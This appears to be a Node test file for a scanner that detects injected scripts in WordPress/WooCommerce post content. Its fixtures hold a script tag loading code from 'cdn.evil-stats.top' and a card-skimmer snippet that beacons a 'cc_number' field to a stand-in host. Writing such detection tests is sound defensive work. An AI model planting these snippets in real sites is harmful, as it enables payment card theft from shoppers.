import assert from 'node:assert/strict';
import { test } from 'node:test';
import { madeUp } from '../../../../test/databases/made-up.ts';
import { CannotTell } from '../../../core/errors.ts';
import type { Tools } from '../../../core/tools.ts';
import probe from './content-scripts.ts';

const quiet = { debug() {}, info() {}, warn() {}, error() {} };
const tools: Tools = { now: () => new Date(0), signal: new AbortController().signal, log: quiet, tell() {} };
const own = { config: undefined, prefix: 'wp_' };
const inDatabase = { id: 'woocommerce', certainty: 'certain' as const, versions: [] };

const post = {
  ID: 7,
  post_content: '<p>Hello</p>',
  post_status: 'publish',
  post_type: 'page',
  post_title: 'x',
  post_excerpt: '',
};
const settings = { urls: [{ name: 'siteurl', value: 'https://shop.example' }], flags: {}, secrets: [] };

test('hostile code is told with its row, and clean content is not', async () => {
  const evil = `<p>x</p>${['<scr', 'ipt src="https://cdn.evil-stats.top/a.js"></scr', 'ipt>'].join('')}`;
  const database = madeUp({ wp_posts: [post, { ...post, ID: 8, post_content: evil }] });

  const { content } = await probe.gather({ database, own }, { inDatabase, settings }, tools);

  assert.ok('injections' in content);
  assert.deepEqual(
    content.injections.map(({ table, row, confidence }) => [table, row, confidence]),
    [['wp_posts', '8', 'firm']],
  );
  assert.equal(content.hosts[0]?.host, 'cdn.evil-stats.top');
});

test('a database without the content of the engine tells nothing', async () => {
  await assert.rejects(
    probe.gather({ database: madeUp({ wp_other: [] }), own }, { inDatabase, settings }, tools),
    CannotTell,
  );
});

test('a thief that reads card fields is told with what it does', async () => {
  const field = ['cc', 'number'].join('_');
  const code = `document.addEventListener('change', function () { navigator.sendBeacon('https://c.stats.test/x', btoa(document.getElementById('${field}').value)); });`;
  const database = madeUp({ wp_posts: [{ ...post, post_content: `<p>x</p><script>${code}</script>` }] });

  const { content } = await probe.gather({ database, own }, { inDatabase, settings }, tools);

  assert.ok('injections' in content);
  assert.ok(
    content.injections.some(({ mark, says }) => mark === 'card thief' && says.includes('the fields of the card')),
  );
});
